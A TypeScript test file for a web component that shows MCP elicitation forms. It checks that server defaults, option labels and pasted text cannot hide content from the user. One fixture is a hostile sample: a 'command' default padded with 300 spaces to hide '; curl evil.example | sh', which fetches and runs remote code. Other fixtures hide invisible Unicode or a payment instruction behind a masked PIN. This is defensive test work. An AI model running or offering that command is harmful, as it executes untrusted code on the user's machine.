import { expect } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import type { McpElicitation } from '../../src/index.js';
import { reviewRequest } from '../../src/reviews/index.js';
import { until } from '../tools/until.mjs';
import {
  accepted,
  centre,
  chord,
  clickAt,
  control,
  errorOf,
  expectFocus,
  field,
  find,
  findAll,
  look,
  looksByHand,
  observed,
  plain,
  record,
  schemaOf,
  show,
  showRequest,
  type,
} from './helpers.js';

const text = { type: 'string' };
const command = { ...text, title: 'Command', default: `ls -la${' '.repeat(300)}; curl evil.example | sh` };
const long = 'Keep everything private, share nothing with anybody and store no copy of it. ';

/** Whether a control cuts off a part of its text. */
const isCut = (box: Element) => box.scrollHeight > box.clientHeight + 1 || box.scrollWidth > box.clientWidth + 1;

const lookAgain = looksByHand();

/** Clicks with a real mouse, as a person does who has looked at the card. */
async function clickByMouse(element: McpElicitation, button: HTMLElement): Promise<void> {
  await observed(element);
  await lookAgain(element);
  look(500);
  button.scrollIntoView({ block: 'nearest' });
  await clickAt(centre(button));
  await element.updateComplete;
}

/** Submits by mouse. @returns the content of `accept` */
async function acceptedByMouse(element: McpElicitation): Promise<Record<string, unknown> | undefined> {
  let content: Record<string, unknown> | undefined;
  element.addEventListener('accept', (event) => (content = event.content), { once: true });
  // An early press leads to the end.
  for (let clicks = 0; clicks < 2 && !content; clicks++) await clickByMouse(element, find(element, '[part~=submit]'));
  return content;
}

async function click(element: McpElicitation, button: HTMLElement) {
  button.click();
  await element.updateComplete;
}

describe('a default that its field would not show whole', () => {
  it('is in no control and leaves with no answer; the field says that it was not filled in [MCP-08, END-22]', async () => {
    const element = await show({ schema: schemaOf({ command }) });
    expect(control<HTMLInputElement>(element, 'command').value).to.equal('');
    expect(plain(find(element, '[part~=hint]'))).to.equal(
      'The suggested value cannot be shown, so it is not filled in.',
    );
    expect(await accepted(element)).to.deep.equal({});
    await expect(element).to.be.accessible();
  });
});

describe('a text of several lines that is blank at its ends', () => {
  it('is filled in, and says so under its label until the person edits it', async () => {
    const script = { ...text, format: 'textarea', default: 'ls\n  -la\n\n' };
    const element = await show({ schema: schemaOf({ script }) });
    expect(control<HTMLTextAreaElement>(element, 'script').value).to.equal(script.default);
    expect(plain(find(element, '[part~=hint]'))).to.equal('= …⟨U+000A ×2⟩');
    type(control(element, 'script'), 'ls\n');
    expect(findAll(element, '[part~=hint]')).to.have.length(0);
  });
});

describe('an option with a label over 1 KiB', () => {
  it('is not among those to choose from; the field counts it [SEE-01]', async () => {
    const options = [
      { const: 'a', title: 'word '.repeat(300) },
      { const: 'b', title: 'B' },
    ];
    const element = await show({ schema: schemaOf({ plan: { title: 'Plan', oneOf: options } }) });
    expect(plain(find(element, '[part~=hint]'))).to.equal('Options that cannot be shown: 1');
    expect(findAll<HTMLInputElement>(element, 'input').map(({ value }) => value)).to.deep.equal(['b', '']);
  });
});

describe('what hides in a text that the person has pasted', () => {
  const pasted = `yes\u200B\u{E0061}${' '.repeat(300)}hidden tail`;
  const ways: [what: string, property: object, value: unknown][] = [
    ['one line', text, pasted],
    ['several lines', { ...text, format: 'textarea' }, pasted],
    ['a list', { type: 'array', items: text }, [pasted]],
    ['a password', { ...text, title: 'Password' }, pasted],
    ['a text in place of an option', { anyOf: [{ enum: ['a', 'b'] }, text] }, pasted],
  ];
  for (const [what, property, value] of ways) {
    it(`is named below ${what}, before it is sent`, async () => {
      const element = await show({ schema: schemaOf({ answer: property }) });
      const answer = field(element, 'answer');
      answer.querySelector<HTMLElement>('[value="="]')?.click(); // "Other…"
      await element.updateComplete;
      type(answer.querySelector('.other') ?? control(element, 'answer'), pasted);
      await element.updateComplete;
      const note = plain(field(element, 'answer').querySelector('p.hint')!);
      expect(note).to.equal('Also in your answer: ⟨U+200B U+E0061 U+0020 ×300⟩');
      expect(await accepted(element)).to.deep.equal({ answer: value });
    });
  }

  it('is named below a response to an agent and a reason for a no, too', async () => {
    const review = reviewRequest({ action: 'run', args: {}, allow: ['approve', 'reject', 'respond'] });
    const { element } = await showRequest(review, { rejectReason: true });
    type(find(element, '.reason input'), pasted);
    await element.updateComplete;
    expect(plain(find(element, '.reason p.hint'))).to.match(/U\+200B/);
    await click(element, find(element, '.respond'));
    type(find(element, 'textarea.response'), pasted);
    await element.updateComplete;
    expect(plain(find(element, 'textarea.response + p.hint'))).to.match(/U\+200B/);
  });
});

describe('a control with a value that leaves untouched', () => {
  const properties = {
    terms: { ...text, default: long.repeat(4).trim() },
    email: { ...text, format: 'email', default: 'ada.lovelace.the.first@analytical.example.com' },
    capitals: { ...text, default: 'W'.repeat(20) },
    wide: { ...text, default: '\uFDFD'.repeat(6) },
    script: { ...text, default: Array.from({ length: 30 }, (_, i) => `line ${i}`).join('\n') },
    number: { type: 'number', default: -1.2345678901234568e-300 },
    plan: { anyOf: [{ enum: ['A', 'B'] }, text], default: 'The third plan, which needs more room than a line has' },
    fixed: { const: long.repeat(5).trim() },
  };

  for (const [presentation, width] of [
    ['dialog', 640],
    ['dialog', 304],
    ['inline', 640],
    ['inline', 304],
  ] as const) {
    it(`grows with it, so that a click on Submit sends nothing that was cut in a card shown as ${presentation}, ${width} pixels wide [SEE-01]`, async () => {
      const element = await show({ schema: schemaOf(properties), presentation });
      element.style.setProperty('--mcp-elicitation-width', `${width}px`);
      expect(find(element, '[part~=dialog]').getBoundingClientRect().width).to.equal(width);
      const boxes = Object.keys(properties).map(
        (key) => field(element, key).querySelector('textarea, input:not([type=radio]), p[part~=control]')!,
      );
      // Engines without `field-sizing` grow a control some frames later.
      await until(function nothingIsCut() {
        return boxes.every((box) => box.clientHeight > 0 && !isCut(box));
      });
      expect(await acceptedByMouse(element)).to.deep.equal(
        Object.fromEntries(Object.entries(properties).map(([key, p]) => [key, 'default' in p ? p.default : p.const])),
      );
    });
  }

  it('shows the whole label of a chosen option below a control that cuts it [SEE-01]', async () => {
    const title = `${long}Except for our partners, who get everything`;
    const options = (count: number) =>
      Array.from({ length: count }, (_, i) => ({ const: `v${i}`, title: i === 0 ? title : `Option ${i}` }));
    for (const count of [7, 60]) {
      const element = await show({ schema: schemaOf({ share: { oneOf: options(count), default: 'v0' } }) });
      const whole = find(element, '.whole p');
      expect(whole.textContent).to.equal(title);
      expect(isCut(whole)).to.equal(false);
    }
  });

  it('shows all of 200 preselected rights', async () => {
    const rights = Array.from({ length: 200 }, (_, i) => `right ${i}`);
    const element = await show({
      schema: schemaOf({ rights: { type: 'array', items: { enum: rights }, default: rights } }),
    });
    expect(findAll(element, '.chip bdi').map(({ textContent }) => textContent)).to.deep.equal(rights);
  });

  it('submits at Enter like a single line; Shift with Enter makes another one', async () => {
    const element = await show({ schema: schemaOf({ terms: properties.terms }) });
    const names = record(element);
    const terms = control<HTMLTextAreaElement>(element, 'terms');
    terms.focus();
    terms.setSelectionRange(0, 0);
    await chord('Shift', 'Enter');
    expect(element.content).to.deep.equal({ terms: `\n${properties.terms.default}` });
    expect(names).to.deep.equal([]);
    await sendKeys({ press: 'Backspace' });
    await sendKeys({ press: 'Enter' });
    expect(names).to.include('accept');
  });
});

describe('a fixed value with a part that hides', () => {
  const schema = schemaOf({ scope: { title: 'Scope', const: 'read\u200B\u{E0061}' } });

  it('makes a form that cannot be sent, and says why', async () => {
    const element = await show({ schema });
    expect(plain(find(element, '.unsupported'))).to.equal('This cannot be shown here. This form cannot be submitted.');
    expect(plain(find(element, '[part~=actions] p'))).to.equal('This form cannot be submitted.');
    expect(await accepted(element)).to.equal(undefined);
    expectFocus(element, find(element, '.unsupported'));
    await expect(element).to.be.accessible();
  });
});

describe('a secret that the server filled in', () => {
  const schema = schemaOf({ pin_code: { ...text, default: 'transfer 5000 EUR' } });

  it('is not sent while it shows as dots; a press on "Show" makes it readable, and it is sent', async () => {
    const element = await show({ schema });
    expect(await accepted(element)).to.equal(undefined);
    expect(errorOf(element, 'pin_code')).to.equal('Show this value before you submit it.');
    await click(element, find(element, '.reveal'));
    expect(errorOf(element, 'pin_code')).to.equal('');
    expect(isCut(control(element, 'pin_code'))).to.equal(false);
    expect(await accepted(element)).to.deep.equal({ pin_code: 'transfer 5000 EUR' });
  });
});
